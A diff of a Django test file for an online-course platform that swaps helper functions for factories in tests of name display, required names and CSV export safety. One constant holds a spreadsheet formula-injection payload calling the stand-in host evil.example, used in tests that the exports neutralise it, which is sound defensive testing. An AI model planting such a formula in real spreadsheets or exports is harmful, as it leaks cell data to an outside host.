@@ -22,8 +22,9 @@ from mooc_platform.accounts.models import User
 from mooc_platform.spreadsheets import csv_cell_neutralise
 from tenants.exports import export_build
 from tenants.models import TenantExport
-from tests.conftest import api_client
-from tests.courses.conftest import PASSWORD, answers_for, client_for, course_make, quiz_of, unique, user_make
+from tests.courses.helpers import PASSWORD, answers_for, quiz_of
+from tests.factories import CourseFactory, UserFactory
+from tests.helpers import api_client, client_for, unique
 
 
 def _certified(course, learner) -> Certificate:
@@ -35,8 +36,8 @@ def _certified(course, learner) -> Certificate:
 
 
 def test_a_certificate_of_a_member_without_a_name_never_shows_the_email(demo_host, in_demo) -> None:
-    course = course_make(author=user_make(role="instructor"))
-    learner = user_make(full_name="")
+    course = CourseFactory(author=UserFactory(role="instructor"))
+    learner = UserFactory(full_name="")
     certificate = _certified(course, learner)
     assert certificate.holder_name == f"Member {learner.pk}"
     # A certificate issued before names were required holds the e-mail: verification shows the name.
@@ -53,9 +54,9 @@ def test_a_certificate_of_a_member_without_a_name_never_shows_the_email(demo_hos
 
 
 def test_forums_show_names_never_emails(demo_host, in_demo) -> None:
-    instructor = user_make(role="instructor", full_name="Ivy Instructor")
-    course = course_make(author=instructor)
-    named, nameless = user_make(full_name="Nora Named"), user_make(full_name="")
+    instructor = UserFactory(role="instructor", full_name="Ivy Instructor")
+    course = CourseFactory(author=instructor)
+    named, nameless = UserFactory(full_name="Nora Named"), UserFactory(full_name="")
     for learner in (named, nameless):
         services.enrollment_create(course=course, user=learner)
         post = services.post_create(course=course, author=learner, body=f"Hello from {learner.pk}")
@@ -88,7 +89,7 @@ def test_a_name_is_required_on_first_sign_in(demo_host, in_demo) -> None:
     user.refresh_from_db()
     assert user.full_name == "" and not user.has_usable_password()
     # A member registered without a name (CSV import, API) is asked for it before any page.
-    User.objects.filter(pk=user.pk).update(password=User.objects.get(pk=user_make().pk).password)
+    User.objects.filter(pk=user.pk).update(password=User.objects.get(pk=UserFactory().pk).password)
     assert client.post("/login/", {"username": user.email, "password": PASSWORD}).status_code == 302
     home = client.get("/courses/")
     assert (home.status_code, home["Location"]) == (302, "/my/profile/?next=/courses/")
@@ -111,9 +112,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def test_analytics_csv_neutralises_formulas(demo_host, in_demo) -> None:
-    instructor = user_make(role="instructor")
-    course = course_make(author=instructor)
-    learner = user_make(full_name=HOSTILE, email=f"{unique('csv')}@example.org")
+    instructor = UserFactory(role="instructor")
+    course = CourseFactory(author=instructor)
+    learner = UserFactory(full_name=HOSTILE, email=f"{unique('csv')}@example.org")
     services.enrollment_create(course=course, user=learner)
     client = Client(HTTP_HOST=demo_host)
     client.force_login(instructor)
@@ -123,7 +124,7 @@ def test_analytics_csv_neutralises_formulas(demo_host, in_demo) -> None:
 
 def test_the_tenant_export_csv_neutralises_formulas_and_the_json_keeps_raw_values(demo) -> None:
     with schema_context(demo.schema_name):
-        learner = user_make(full_name=HOSTILE, email=f"{unique('export')}@example.org")
+        learner = UserFactory(full_name=HOSTILE, email=f"{unique('export')}@example.org")
     export = TenantExport.objects.create(tenant=demo, requested_by_email="admin@demo.test")
     export = export_build(export_id=export.pk)
     archive = zipfile.ZipFile(io.BytesIO(storage.object_get(key=export.s3_key)))
